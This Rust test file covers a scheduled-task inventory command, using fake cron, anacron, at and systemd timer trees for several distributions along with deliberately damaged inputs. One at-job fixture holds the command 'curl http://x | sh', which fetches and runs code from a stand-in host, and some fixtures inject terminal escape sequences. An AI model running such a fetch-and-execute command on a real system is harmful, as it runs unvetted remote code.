//! `scheduledtasks` of trees, whole and damaged, and of a booted systemd.

use std::collections::BTreeMap;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::process::Command;

use jiff::Timestamp;
use lrsh::protocol::Status;
use serde_json::{Value, json};

use crate::kit::device::{Answer, Device};
use crate::kit::systemd::inside_systemd;

fn by_id(answer: &Answer) -> BTreeMap<String, Value> {
    assert_eq!(answer.completed.status, Status::Completed, "{:?}", answer.completed);
    answer.rows().into_iter().map(|row| (row["id"].as_str().unwrap().to_owned(), row)).collect()
}

/// A tree with a task of each kind.
struct Tree(tempfile::TempDir);

impl Tree {
    fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.0.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    fn script(&self, path: &str, text: &str) {
        self.write(path, text);
        std::fs::set_permissions(self.0.path().join(path), PermissionsExt::from_mode(0o755)).unwrap();
    }

    fn link(&self, path: &str, target: &str) {
        let path = self.0.path().join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        symlink(target, path).unwrap();
    }
}

#[test]
fn every_kind_of_task_of_a_tree_is_told() {
    let tree = Tree::new();
    tree.write("etc/passwd", "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n");
    tree.write("etc/timezone", "Asia/Tokyo\n");
    tree.write("etc/crontab", "SHELL=/bin/bash\nMAILTO=root\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n25 6 * * * root test -x /usr/sbin/anacron || run-parts /etc/cron.daily\n");
    tree.write("etc/cron.d/good", "@reboot alice /home/alice/x 50%off\n0 4 1 1 * nobody-known x\n");
    tree.write("etc/cron.d/bad.name", "* * * * * root x\n");
    tree.write("etc/cron.d/broken", "* * * * * root a\n61 * * * * root b\n");
    tree.write("var/spool/cron/crontabs/alice", "CRON_TZ=UTC\n0 5 * * 1 /home/alice/job\n0 5 * * 1 /home/alice/job\n");
    tree.write("var/spool/cron/crontabs/gone", "* * * * * x\n");
    tree.script("etc/cron.hourly/tidy", "#!/bin/sh\n");
    tree.write("etc/cron.daily/not-executable", "#!/bin/sh\n");
    tree.script("etc/cron.daily/dotted.sh", "#!/bin/sh\n");
    tree.write("etc/cron.daily/.placeholder", "");
    tree.write("etc/anacrontab", "1 5 cron.daily run-parts /etc/cron.daily\nx\n");
    tree.write("var/spool/anacron/cron.daily", "20260101\n");
    tree.write(
        "var/spool/cron/atjobs/a0000201c5f2a4",
        "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\ncd /home/alice || {\n\t exit 1\n}\ncurl http://x | sh\n",
    );
    tree.write("var/spool/cron/atjobs/.SEQ", "00002\n");
    tree.write("usr/lib/systemd/system/default.target", "[Unit]\nRequires=timers.target\n");
    tree.write("usr/lib/systemd/system/timers.target", "[Unit]\n");
    tree.write(
        "usr/lib/systemd/system/tidy.timer",
        "[Unit]\nDescription=Tidy\n[Timer]\nOnCalendar=*-*-* 03:00\nOnBootSec=5min\n[Install]\nWantedBy=timers.target\n",
    );
    tree.write("usr/lib/systemd/system/tidy.service", "[Service]\nUser=www\nExecStart=/usr/bin/tidy --all\n");
    tree.write("usr/lib/systemd/system/off.timer", "[Timer]\nOnCalendar=never\n");
    tree.link("etc/systemd/system/timers.target.wants/tidy.timer", "/usr/lib/systemd/system/tidy.timer");
    tree.write("home/alice/.config/systemd/user/mine.timer", "[Timer]\nOnCalendar=hourly\n");
    tree.write("home/alice/.config/systemd/user/mine.service", "[Service]\nExecStart=%h/mine\n");
    tree.link("home/alice/.config/systemd/user/default.target.wants/mine.timer", "../mine.timer");
    let answer = Device::at(tree.0.path()).run("scheduledtasks", &[], &[]);
    let rows = by_id(&answer);
    let found = |start: &str| {
        let row = rows.values().find(|row| row["source"].as_str().unwrap() == start || row["id"] == start);
        row.unwrap_or_else(|| panic!("{start}: {rows:#?}"))
    };
    let check = |start: &str, fields: Value| {
        for (key, value) in fields.as_object().unwrap() {
            assert_eq!(&found(start)[key], value, "{start}: {key}: {}", found(start));
        }
    };
    check(
        "/etc/crontab:3",
        json!({
            "is_enabled": true, "schedule": "17 * * * *", "user": "root", "kind": "cron", "environment": {"SHELL": "/bin/bash", "MAILTO": "root"},
            "command": "cd / && run-parts --report /etc/cron.hourly",
        }),
    );
    assert_eq!(
        found("/etc/crontab:3")["task"]["actions"]["exec"],
        json!([{"command": "/bin/bash", "arguments": "-c cd / && run-parts --report /etc/cron.hourly"}])
    );
    check("/etc/cron.d/good:1", json!({ "schedule": "@reboot", "user": "alice", "next_run": null, "is_enabled": true }));
    check("/etc/cron.d/good:2", json!({ "is_enabled": false, "error": "there is no user nobody-known in /etc/passwd" }));
    check("/etc/cron.d/bad.name:1", json!({ "is_enabled": false, "next_run": null }));
    check("/etc/cron.d/broken:1", json!({ "is_enabled": false, "error": "cron ignores this file: line 2: bad minute" }));
    check(
        "/etc/cron.d/broken:2",
        json!({ "is_enabled": false, "error": "bad minute", "schedule": null, "command": "61 * * * * root b" }),
    );
    check("/var/spool/cron/crontabs/gone:1", json!({ "is_enabled": false }));
    check(
        "/etc/cron.hourly/tidy",
        json!({ "is_enabled": true, "schedule": "hourly", "user": "root", "next_run": found("/etc/crontab:3")["next_run"] }),
    );
    check("/etc/cron.daily/not-executable", json!({ "is_enabled": false, "next_run": null }));
    check("/etc/cron.daily/dotted.sh", json!({ "is_enabled": false }));
    check("/etc/anacrontab#cron.daily", json!({ "last_run": "2025-12-31T15:00:00Z", "schedule": "1 5", "next_run": null }));
    check(
        "at:2",
        json!({ "user": "alice", "command": "curl http://x | sh", "schedule": "2026-07-25T16:04:00Z queue a", "is_enabled": true }),
    );
    check(
        "tidy.timer",
        json!({ "is_enabled": true, "schedule": "*-*-* 03:00; OnBootSec=5min", "user": "www", "command": "/usr/bin/tidy --all" }),
    );
    check("off.timer", json!({ "is_enabled": false, "error": "line 2: never is no calendar event" }));
    check("user:alice:mine.timer", json!({ "is_enabled": true, "user": "alice", "command": "/home/alice/mine" }));
    // 03:00 in Tokyo is 18:00 in UTC.
    assert!(found("tidy.timer")["next_run"].as_str().unwrap().ends_with("T18:00:00Z"));
    let twice: Vec<&String> = rows.keys().filter(|id| id.starts_with("/var/spool/cron/crontabs/alice#")).collect();
    assert_eq!(twice.len(), 2, "{twice:?}");
    assert!(!rows.values().any(|row| row["source"].as_str().unwrap().contains(".SEQ")), "{rows:#?}");
    // Debian's cron has no CRON_TZ: 05:00 in Tokyo.
    assert!(rows[twice[0]]["next_run"].as_str().unwrap().ends_with("T20:00:00Z"));
    let seen = answer.seen();
    assert_eq!(seen.len(), rows.len());
    let line = seen.iter().find(|item| item.key == *twice[0]).unwrap();
    assert_eq!((&line.identity["source_file"], &line.identity["place"]), (&json!("/var/spool/cron/crontabs/alice"), &json!(2)));
    let device = Device::at(tree.0.path());
    let one = device.run("scheduledtasks", &[("task", "at:2")], &[]);
    assert_eq!(one.rows().len(), 1);
    let none = device.run("scheduledtasks", &[("task", "nothing")], &[]);
    assert_eq!((none.completed.status, none.completed.errors[0].code.as_str()), (Status::Failed, "not_found"));
}

#[test]
fn other_crons_look_elsewhere_and_are_less_strict() {
    let told = |tree: &Tree| by_id(&Device::at(tree.0.path()).run("scheduledtasks", &[], &[]));
    let row = |rows: &BTreeMap<String, Value>, source: &str| {
        let row = rows.values().find(|row| row["source"] == source);
        row.unwrap_or_else(|| panic!("{source}: {rows:#?}")).clone()
    };
    let check = |rows: &BTreeMap<String, Value>, source: &str, enabled: bool, wrong: &str| {
        let row = row(rows, source);
        let told = row["error"].as_str().unwrap_or_default();
        assert!(row["is_enabled"] == enabled && told.contains(wrong) && told.is_empty() == wrong.is_empty(), "{row}");
    };
    let fedora = Tree::new();
    fedora.write("etc/passwd", "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n");
    fedora.script("usr/sbin/crond", "");
    fedora.script("usr/sbin/anacron", "");
    fedora.write("etc/cron.d/0hourly", "01 * * * * root run-parts /etc/cron.hourly\n");
    fedora.write("etc/cron.d/with.dot", "* * * * * root x\n61 * * * * root y\n* * * * * root z");
    fedora.write("etc/cron.d/old.rpmsave", "* * * * * root x\n");
    fedora.script("etc/cron.hourly/0anacron", "#!/bin/sh\n");
    fedora.script("etc/cron.daily/logrotate.sh", "#!/bin/sh\n");
    fedora.write("etc/anacrontab", "1 5 cron.daily run-parts /etc/cron.daily\n");
    fedora.write("var/spool/cron/alice", "CRON_TZ=Asia/Tokyo\n0 5 * * * a\n0~30 5 * * * drawn\n");
    fedora.write("var/spool/cron/crontabs/alice", "0 5 * * * b\n");
    let rows = told(&fedora);
    check(&rows, "/etc/cron.d/with.dot:1", true, "");
    check(&rows, "/etc/cron.d/with.dot:2", false, "bad minute");
    check(&rows, "/etc/cron.d/with.dot:3", false, "no newline");
    check(&rows, "/etc/cron.d/old.rpmsave:1", false, "cronie takes no file of such a name");
    check(&rows, "/var/spool/cron/alice:2", true, "");
    assert!(row(&rows, "/var/spool/cron/alice:2")["next_run"].as_str().unwrap().ends_with("T20:00:00Z"));
    check(&rows, "/var/spool/cron/alice:3", true, "");
    assert_eq!(row(&rows, "/var/spool/cron/alice:3")["next_run"], Value::Null);
    check(&rows, "/var/spool/cron/crontabs/alice:1", false, "cronie, which this device has, does not look there");
    check(&rows, "/etc/cron.hourly/0anacron", true, "");
    check(&rows, "/etc/cron.daily/logrotate.sh", true, "");
    // Each hour's first minute starts anacron, whose job waits five more.
    let next = row(&rows, "/etc/anacrontab:1")["next_run"].as_str().unwrap().to_owned();
    assert!(next.ends_with(":06:00Z"), "{next}");
    assert_eq!(row(&rows, "/etc/cron.daily/logrotate.sh")["next_run"], next);

    let alpine = Tree::new();
    alpine.write("etc/passwd", "root:x:0:0::/root:/bin/sh\n");
    alpine.script("bin/busybox", "");
    alpine.link("usr/sbin/crond", "/bin/busybox");
    alpine.write(
        "etc/crontabs/root",
        "*/15 * * * * run-parts /etc/periodic/15min\n0 2 * * * run-parts /etc/periodic/daily\nx\n* * * * * y",
    );
    std::fs::create_dir_all(alpine.0.path().join("var/spool/cron")).unwrap();
    alpine.link("var/spool/cron/crontabs", "/etc/crontabs");
    alpine.write("etc/crontab", "* * * * * root x\n");
    alpine.script("etc/periodic/15min/often", "#!/bin/sh\n");
    alpine.script("etc/periodic/daily/backup", "#!/bin/sh\n");
    let rows = told(&alpine);
    let spool = "/var/spool/cron/crontabs/root";
    check(&rows, &format!("{spool}:1"), true, "");
    check(&rows, &format!("{spool}:3"), false, "bad minute");
    check(&rows, &format!("{spool}:4"), true, "");
    assert!(!rows.values().any(|row| row["source"].as_str().unwrap().starts_with("/etc/crontabs")), "one spool, told once");
    check(&rows, "/etc/crontab:1", false, "busybox's crond, which this device has, does not look there");
    check(&rows, "/etc/periodic/15min/often", true, "");
    assert_eq!(row(&rows, "/etc/periodic/15min/often")["next_run"], row(&rows, &format!("{spool}:1"))["next_run"]);
    assert_eq!(row(&rows, "/etc/periodic/daily/backup")["next_run"], row(&rows, &format!("{spool}:2"))["next_run"]);
}

#[test]
fn damaged_trees_answer_with_rows_that_say_what_is_wrong() {
    let tree = Tree::new();
    tree.write("etc/passwd", "root:x:0:0::/root:/bin/sh\nx\0\n");
    tree.write("etc/crontab", "* * * * *");
    tree.write("etc/cron.d/huge", &"#".repeat(5 * 1024 * 1024));
    tree.write("etc/cron.d/long", &format!("* * * * * root {}\n", "x".repeat(1 << 20)));
    tree.write("etc/cron.d/many", &"A=b\n* * * * * root x\n".repeat(60_000));
    std::fs::write(tree.0.path().join("etc/cron.d/binary"), [0xff, 0, b'*', b' ', b'\n'].repeat(10_000)).unwrap();
    tree.link("etc/cron.d/a", "b");
    tree.link("etc/cron.d/b", "a");
    tree.link("etc/cron.daily/loop", "loop");
    tree.link("var/spool/cron/crontabs/root", "/etc/crontab");
    let pipe = tree.0.path().join("etc/anacrontab");
    rustix::fs::mkfifoat(rustix::fs::CWD, pipe, rustix::fs::Mode::from_raw_mode(0o600)).unwrap();
    tree.write("var/spool/cron/atjobs/nonsense", "\u{1b}[2J");
    tree.write("usr/lib/systemd/system/x.timer", "[Timer]\nOnCalendar=\u{1b}]0;x\nUnit=x.timer\n");
    tree.link("etc/localtime", "/etc/localtime");
    let answer = Device::at(tree.0.path()).run("scheduledtasks", &[], &[]);
    assert_eq!(answer.completed.status, Status::Completed, "{:?}", answer.completed);
    let rows = answer.rows();
    for file in [
        "etc/crontab",
        "cron.d/huge",
        "cron.d/long",
        "cron.d/many",
        "cron.d/binary",
        "cron.d/a",
        "cron.daily/loop",
        "crontabs/root",
        "etc/anacrontab",
        "atjobs/nonsense",
        "system/x.timer",
    ] {
        let of = |row: &&Value| row["source"].as_str().unwrap().contains(file);
        let wrong = rows.iter().filter(of).any(|row| row["error"].is_string() && row["is_enabled"] == false);
        assert!(wrong, "{file}: {:#?}", rows.iter().find(of));
    }
}

#[test]
fn a_booted_systemd_agrees_with_list_timers() {
    if !inside_systemd("agent::scheduledtasks::a_booted_systemd_agrees_with_list_timers") {
        return;
    }
    let out = Command::new("systemctl").args(["list-timers", "--all", "--output=json", "--no-pager"]).output().unwrap();
    let timers: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    let rows = by_id(&Device::live().run("scheduledtasks", &[], &[]));
    assert!(timers.len() > 2, "{timers:?}");
    for timer in timers {
        let row = &rows[timer["unit"].as_str().unwrap()];
        let next = row["next_run"].as_str().map_or(0, |at| at.parse::<Timestamp>().unwrap().as_microsecond());
        let told = timer["next"].as_i64().unwrap_or_default();
        // What counts from the boot is told on another clock: it comes out some milliseconds apart each time.
        assert!((next - told).abs() < 5_000_000, "{timer}: {row}");
    }
}
